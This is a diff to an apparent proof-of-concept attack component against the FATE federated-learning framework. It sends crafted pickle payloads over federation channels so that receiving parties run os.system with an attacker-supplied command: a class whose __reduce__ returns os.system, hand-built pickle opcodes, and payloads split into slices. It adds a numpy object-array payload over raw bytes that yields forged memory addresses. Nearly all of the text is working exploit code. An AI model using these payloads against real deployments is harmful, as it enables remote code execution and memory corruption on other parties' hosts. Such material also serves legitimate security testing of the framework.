@@ -4,6 +4,7 @@ import os
 import pickle
 import struct
 
+import numpy as np
 from fate.arch import Context
 from fate.arch.federation.api import TableMeta
 from fate.arch.federation.api._serdes import _FederationBytesCoder, _SplitTableUtil
@@ -16,6 +17,13 @@ class Command:
 
     def __reduce__(self):
         return os.system, (self.command,)
+
+
+class Addresses:
+    """An array of objects over bytes, which numpy takes for their addresses."""
+
+    def __reduce__(self):
+        return np.ndarray, ((1,), np.dtype("O"), b"12345678")
 
 
 @cpn.component(roles=[GUEST, HOST], provider="fate")
@@ -33,6 +41,7 @@ def attack(ctx, command):
 
     name = text("fate.arch.config._config") + text("os.system") + b"\x93"
     push(ctx, "message", struct.pack("!B", 0) + b"\x80\x04" + name + text(command) + b"\x85R.")
+    push(ctx, "array", struct.pack("!B", 0) + pickle.dumps(Addresses()))
     ctx.hosts.put("table", table_of(ctx, {0: Command(command)}))
     # Above 1 MiB a message comes in slices, of which each is a pickle, and so is what they make together.
     big = pickle.dumps([b"\0" * (2 << 20), Command(command)])
@@ -54,7 +63,7 @@ def push(ctx, name, data):
 
 def suffer(ctx):
     told = {}
-    for name in ("message", "table", "slices", "whole"):
+    for name in ("message", "array", "table", "slices", "whole"):
         try:
             value = ctx.guest.get(name)
             told[name] = str(list(value.mapValues(lambda each: each).collect()) if name == "table" else value)
